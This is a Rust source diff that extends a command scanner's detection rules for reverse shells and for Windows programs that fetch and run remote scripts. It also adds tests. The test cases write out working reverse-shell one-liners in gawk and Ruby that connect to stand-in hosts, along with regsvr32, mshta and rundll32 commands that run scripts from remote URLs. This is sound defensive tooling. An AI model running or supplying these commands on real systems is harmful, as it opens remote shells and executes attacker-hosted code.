@@ -3,7 +3,10 @@
 //!
 //! Covers the reference scanner's destructive regexes (`rm -rf /`,
 //! `> /dev/sda`, `mkfs.`, `dd if=`, the fork bomb, force-push to main) and
-//! reverse shells. The rules look at the *target* of a command: `rm -rf
+//! reverse shells (also gawk's `/inet/tcp/…` files and Ruby's sockets
+//! made a shell's streams), and Windows programs that run a script
+//! fetched from a URL in one command (`exec.remote-scriptlet`: `regsvr32
+//! /i:https://… scrobj.dll`, `mshta https://…`, `rundll32 javascript:…`). The rules look at the *target* of a command: `rm -rf
 //! ./target` and `dd if=/dev/zero of=./test.bin` are everyday commands,
 //! `rm -rf ~` and `dd … of=/dev/sda` are not.
 
@@ -87,11 +90,27 @@ pub(super) fn rules() -> Vec<Rule> {
             "shell.reverse-shell",
             D,
             Critical,
-            &["/dev/tcp/", "/dev/udp/", "nc ", "ncat ", "netcat ", "socat ", "mkfifo", "socket", "fsockopen"],
-            r#"/dev/(?:tcp|udp)/[^\s/]+/\d+|\b(?:nc|ncat|netcat)(?:\s[^\n|;&]*)?\s(?:-[a-z]*[ec]\s*\S|--(?:sh-)?exec\b)|\bsocat\s[^\n]*\bexec:|\bmkfifo\b[^\n]*\|\s*(?:nc|ncat|netcat)\b|\b(?:nc|ncat|netcat)\s[^\n]*\|\s*/bin/(?:ba)?sh\b|\b(?:/bin/)?(?:ba|z|da)?sh\s+-i\b[^\n]*\|\s*(?:nc|ncat|netcat)\s|\bsocket\b[^\n]*\bconnect\b[^\n]*(?:dup2|subprocess|pty\.spawn|/bin/(?:ba)?sh|\bexec)|\bfsockopen\b[^\n]*(?:exec|system|proc_open|/bin/(?:ba)?sh)"#,
+            &[
+                "/dev/tcp/", "/dev/udp/", "nc ", "ncat ", "netcat ", "socat ", "mkfifo", "socket", "fsockopen", "/inet/",
+                "/inet4/", "/inet6/", "tcpsocket",
+            ],
+            r#"/dev/(?:tcp|udp)/[^\s/]+/\d+|/inet[46]?/(?:tcp|udp)/\d+/[^\s/]+/\d+|\btcpsocket\.(?:new|open)\b[^\n]*(?:\bexec\b|\bspawn\b|\.reopen\b|/bin/(?:ba|z|da)?sh\b)|\bio::socket::inet\b[^\n]*(?:\bexec\b|\bsystem\b|/bin/(?:ba|z|da)?sh\b)|\b(?:nc|ncat|netcat)(?:\s[^\n|;&]*)?\s(?:-[a-z]*[ec]\s*\S|--(?:sh-)?exec\b)|\bsocat\s[^\n]*\bexec:|\bmkfifo\b[^\n]*\|\s*(?:nc|ncat|netcat)\b|\b(?:nc|ncat|netcat)\s[^\n]*\|\s*/bin/(?:ba)?sh\b|\b(?:/bin/)?(?:ba|z|da)?sh\s+-i\b[^\n]*\|\s*(?:nc|ncat|netcat)\s|\bsocket\b[^\n]*\bconnect\b[^\n]*(?:dup2|subprocess|pty\.spawn|/bin/(?:ba)?sh|\bexec)|\bfsockopen\b[^\n]*(?:exec|system|proc_open|/bin/(?:ba)?sh)"#,
         )
-        .requires(&["/dev/tcp/", "/dev/udp/", "-e", "-c", "exec", "|", "connect", "fsockopen"])
+        .requires(&["/dev/tcp/", "/dev/udp/", "-e", "-c", "exec", "|", "connect", "fsockopen", "/inet", "spawn", "reopen", "system", "/bin/"])
         .assess(reverse_shell)
+        .warnable(),
+        // Windows programs that fetch and run a script from a URL in one
+        // command, no file written: a COM scriptlet registered from a URL
+        // (`regsvr32 /i:https://… scrobj.dll`), an HTML application
+        // (`mshta https://…`, `mshta vbscript:…`), script run through
+        // `rundll32 javascript:…`.
+        Rule::new(
+            "exec.remote-scriptlet",
+            Category::RemoteExecution,
+            Critical,
+            &["regsvr32", "mshta", "rundll32"],
+            r#"\bregsvr32(?:\.exe)?\b[^\n]*?[/-]i:\s*["']?(?:https?|ftp)://|\bmshta(?:\.exe)?\s+["']?(?:https?://|vbscript:|javascript:)|\brundll32(?:\.exe)?\s+["']?javascript:"#,
+        )
         .warnable(),
         Rule::new(
             "conceal.clear-history",
@@ -189,6 +208,52 @@ mod tests {
         assert_severity("rm -rf /*/node_modules", "shell.rm-rf-root", Critical);
         // A project's own globs are not.
         assert_not_flagged("rm -rf ./*/node_modules ../build");
+    }
+
+    /// A socket made the shell's streams in other tools' words: gawk's
+    /// `/inet/tcp/…` special file, Ruby's `TCPSocket` with the standard
+    /// streams reopened on it and a shell run.
+    #[test]
+    fn sockets_of_gawk_and_ruby_run_as_a_shell_are_reverse_shells() {
+        let gawk = "gawk 'BEGIN { s = \"/inet/tcp/0/198.51.100.23/4444\"; while ((s |& getline c) > 0) { while ((c | getline l) > 0) print l |& s; close(c) } }'";
+        assert_hit(&format!("```bash\n{gawk}\n```\n"), "shell.reverse-shell", DestructiveShell, Critical, 2);
+        let ruby = "ruby -rsocket -e 'c=TCPSocket.new(\"q.example.cc\",8443);$stdin.reopen(c);$stdout.reopen(c);exec \"/bin/sh -i\"'";
+        assert_hit(&format!("```bash\n{ruby}\n```\n"), "shell.reverse-shell", DestructiveShell, Critical, 2);
+        // A socket that only talks is no shell.
+        assert_absent(
+            "ruby -rsocket -e 'TCPSocket.new(\"localhost\", 6379).puts(\"PING\")'",
+            "shell.reverse-shell",
+        );
+        assert_absent("gawk -f report.awk /var/log/inet/access.log", "shell.reverse-shell");
+    }
+
+    /// Windows programs that run a script fetched from a URL in one
+    /// command: Critical; the same programs on local files are not.
+    #[test]
+    fn windows_programs_running_remote_script_are_critical() {
+        let regsvr = "regsvr32 /s /n /u /i:https://fontfix.example.com/repair.sct scrobj.dll";
+        assert_hit(regsvr, "exec.remote-scriptlet", RemoteExecution, Critical, 1);
+        assert_hit(
+            "mshta https://a.example.net/x.hta",
+            "exec.remote-scriptlet",
+            RemoteExecution,
+            Critical,
+            1,
+        );
+        assert_hit(
+            "rundll32 javascript:\"\\..\\mshtml,RunHTMLApplication\"",
+            "exec.remote-scriptlet",
+            RemoteExecution,
+            Critical,
+            1,
+        );
+        assert_absent("regsvr32 /s C:\\Tools\\vendor.dll", "exec.remote-scriptlet");
+        assert_absent("mshta C:\\Tools\\setup.hta", "exec.remote-scriptlet");
+        assert_severity(
+            "Never run `mshta https://x.example/a.hta` from a ticket.",
+            "exec.remote-scriptlet",
+            Low,
+        );
     }
 
     #[test]
